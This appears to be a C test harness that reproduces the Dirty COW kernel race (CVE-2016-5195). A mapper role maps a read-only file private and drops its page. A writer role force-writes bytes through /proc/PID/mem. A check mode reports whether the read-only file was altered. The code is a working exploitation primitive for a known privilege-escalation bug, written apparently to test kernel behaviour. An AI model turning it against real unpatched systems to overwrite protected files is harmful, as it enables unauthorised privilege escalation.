// Dirty COW (CVE-2016-5195) from user space, one mode per role:
//   prepare FILE        write a page of 0x11 to FILE, mode 0444
//   map FILE TARGET     (the mapper actor) map FILE private and read-only,
//                       read it, record "pid address" in TARGET, then
//                       madvise(MADV_DONTNEED) the page and exit
//   write TARGET        (the writer actor) wait for TARGET, then write 16
//                       bytes of 0xab at that address through
//                       /proc/PID/mem (a forced write: FOLL_FORCE)
//   check FILE          succeed only if FILE still holds its page of 0x11
// Every mode prints what it did; a failure exits 1.
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

enum { kPage = 4096, kWrite = 16 };

static int fail(const char* what) {
  printf("%s: %s\n", what, strerror(errno));
  return 1;
}

static int prepare(const char* file) {
  char page[kPage];
  memset(page, 0x11, sizeof page);
  int fd = open(file, O_WRONLY | O_CREAT | O_TRUNC, 0444);
  if (fd < 0) return fail(file);
  if (write(fd, page, sizeof page) != (ssize_t)sizeof page || close(fd) != 0) return fail(file);
  printf("%s: a page of 0x11, mode 0444\n", file);
  return 0;
}

static int map(const char* file, const char* target) {
  int fd = open(file, O_RDONLY);
  if (fd < 0) return fail(file);
  volatile char* p = mmap(NULL, kPage, PROT_READ, MAP_PRIVATE, fd, 0);
  if (p == MAP_FAILED) return fail("mmap");
  char first = p[0];  // a read fault: the pte maps the file's page
  char tmp[256];
  snprintf(tmp, sizeof tmp, "%s.tmp", target);
  FILE* f = fopen(tmp, "w");
  if (f == NULL || fprintf(f, "%d %lu\n", (int)getpid(), (unsigned long)p) < 0 || fclose(f) != 0) return fail(tmp);
  if (rename(tmp, target) != 0) return fail(target);
  if (madvise((void*)p, kPage, MADV_DONTNEED) != 0) return fail("madvise");
  printf("mapped %s at %p (first byte 0x%02x), published, zapped\n", file, (void*)p, (unsigned char)first);
  return 0;
}

static int write_through_mem(const char* target) {
  int pid = 0;
  unsigned long address = 0;
  // The mapper publishes its target within the run's first steps; wait up
  // to 20 s for it.
  for (int i = 0; i < 2000; i++) {
    FILE* f = fopen(target, "r");
    if (f != NULL) {
      int n = fscanf(f, "%d %lu", &pid, &address);
      fclose(f);
      if (n == 2) break;
    }
    struct timespec ten_ms = {0, 10 * 1000 * 1000};
    nanosleep(&ten_ms, NULL);
  }
  if (pid == 0) {
    printf("no target in %s after 20 s\n", target);
    return 1;
  }
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int fd = open(path, O_RDWR);
  if (fd < 0) return fail(path);
  char bytes[kWrite];
  memset(bytes, 0xab, sizeof bytes);
  ssize_t n = pwrite(fd, bytes, sizeof bytes, (off_t)address);
  if (n < 0) return fail("pwrite /proc/PID/mem");
  if (n != (ssize_t)sizeof bytes) {
    // 0: the mapper's memory was gone (it exited before the write began).
    printf("pwrite /proc/%d/mem wrote %zd of %zu bytes\n", pid, n, sizeof bytes);
    return 1;
  }
  printf("wrote %zd bytes at 0x%lx of pid %d\n", n, address, pid);
  return 0;
}

static int check(const char* file) {
  char page[kPage];
  int fd = open(file, O_RDONLY);
  if (fd < 0) return fail(file);
  ssize_t n = read(fd, page, sizeof page);
  close(fd);
  if (n != (ssize_t)sizeof page) return fail(file);
  for (int i = 0; i < kPage; i++)
    if (page[i] != 0x11) {
      printf("%s: byte %d is 0x%02x, not 0x11: a write reached a file its writer could only read\n", file, i,
             (unsigned char)page[i]);
      return 1;
    }
  printf("%s: unchanged\n", file);
  return 0;
}

int main(int argc, char** argv) {
  if (argc == 3 && strcmp(argv[1], "prepare") == 0) return prepare(argv[2]);
  if (argc == 4 && strcmp(argv[1], "map") == 0) return map(argv[2], argv[3]);
  if (argc == 3 && strcmp(argv[1], "write") == 0) return write_through_mem(argv[2]);
  if (argc == 3 && strcmp(argv[1], "check") == 0) return check(argv[2]);
  fprintf(stderr, "usage: dirtycow prepare FILE | map FILE TARGET | write TARGET | check FILE\n");
  return 2;
}
